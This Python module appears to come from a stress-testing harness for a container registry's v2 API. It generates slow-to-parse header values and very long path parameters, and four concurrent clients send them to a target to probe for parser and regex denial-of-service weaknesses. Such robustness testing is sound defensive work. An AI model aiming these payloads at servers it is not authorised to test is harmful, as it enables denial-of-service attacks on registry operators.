"""Attacks with the heads of requests: fields that take long to read."""

import asyncio

from attack import attack

FULL = 8 * 1024  # bytes of a field


def _repeated(text, size=FULL):
    return (text * (size // len(text) + 1))[:size]


def _fields():
    """Yield (name, value) of header fields that are slow to parse if a pattern or a parser is careless."""
    yield 'Range', 'bytes=' + 1600 * ' ' + 'x'
    yield 'Range', 'bytes=' + 3900 * ' ' + 'x'
    for digits in ('0-0,', '1 ' + 60 * ' ' + '-', '-' + 200 * ' ', '9' * 100 + '-,'):
        yield 'Range', 'bytes=' + _repeated(digits)
    for name in ('Content-Range', 'If-Range'):
        yield name, 'bytes ' + _repeated('9')
        yield name, 'bytes 0' + FULL * ' ' + '-1'
    for text in ('a/b;', 'a=b; ', ';=",', ' \t', '"\\', 'application/json;q=0.1,'):
        yield 'Accept', _repeated(text)
        yield 'Content-Type', 'application/json' + _repeated(text)
    for text in ('"a",', 'W/"a"', '"' + 'a' * 50, ', ', 'W/' + ' ' * 30):
        yield 'If-None-Match', _repeated(text)
        yield 'If-Match', _repeated(text)
    for text in ('Basic ', 'Basic ' + 'QUFB' * 40, 'Bearer a.', 'Digest a="b",', ' ', 'Basic ' + '=' * 40):
        yield 'Authorization', _repeated(text)
    for text in ('a.', ':', '[::1]', 'a,', '@a'):
        yield 'Host', _repeated(text)
        yield 'X-Forwarded-Host', _repeated(text)
    for name in ('X-Forwarded-For', 'X-Forwarded-Proto', 'Forwarded', 'Cookie', 'X-Request-Id', 'Expect', 'Transfer-Encoding'):
        for text in ('1,', '::1, ', ' ', 'a=b;'):
            yield name, _repeated(text)


def _paths(content):
    """Yield paths with parameters that are slow to parse."""
    repository, config = content['repository'], content['config']
    for text in ('9', '0', ' ', '%39', '-1'):
        yield f'/v2/_catalog?n={_repeated(text, 4000)}'.replace(' ', '+')
    for text in ('a', 'a/', '..', '%00', 'a_', 'a__', 'a-', 'a.-_'):
        yield f'/v2/{repository}/tags/list?n=5&last={_repeated(text, 6000)}'
        yield f'/v2/_catalog?last={_repeated(text, 6000)}'
        yield f'/v2/{_repeated(text, 6000)}/tags/list'
        yield f'/v2/{repository}/manifests/{_repeated(text, 6000)}'
        yield f'/v2/{repository}/blobs/{_repeated(text, 6000)}'
        yield f'/v2/{repository}/blobs/uploads/{_repeated(text, 6000)}'
    yield f'/v2/{repository}/referrers/{config}?artifactType={_repeated("%2F", 6000)}'
    yield '/v2/' + _repeated('blobs/uploads/', 7000)
    yield '/v2/' + _repeated('manifests/', 7000)


def _requests(content):
    blob = '/v2/{repository}/blobs/{config}'.format(**content)
    manifest = '/v2/{repository}/manifests/v1'.format(**content)
    for name, value in _fields():
        for path in (blob, manifest):
            yield 'GET', path, {name: value}
    yield from (('GET', path, {}) for path in _paths(content))
    for name in ('Range', 'Content-Range', 'Content-Type'):
        yield 'PUT', manifest, {name: 'bytes ' + _repeated(' ')}
    yield 'GET', manifest, {f'X-{number}': 'a' * 24 * 1024 for number in range(64)}


@attack('4 clients with slow header fields', clients=4, seconds=5, pause=0.02)
async def slow_fields(target, address, number):
    """Each field and parameter in turn, the clients at different ones."""
    requests = list(_requests(target.content))
    first = number * len(requests) // 4
    for method, path, headers in requests[first:] + requests[:first]:
        try:
            await target.ask(address, method, path, headers)
        except (OSError, EOFError) as error:  # the server need not answer such a request
            target.counts[type(error).__name__] += 1
        await asyncio.sleep(0.02)
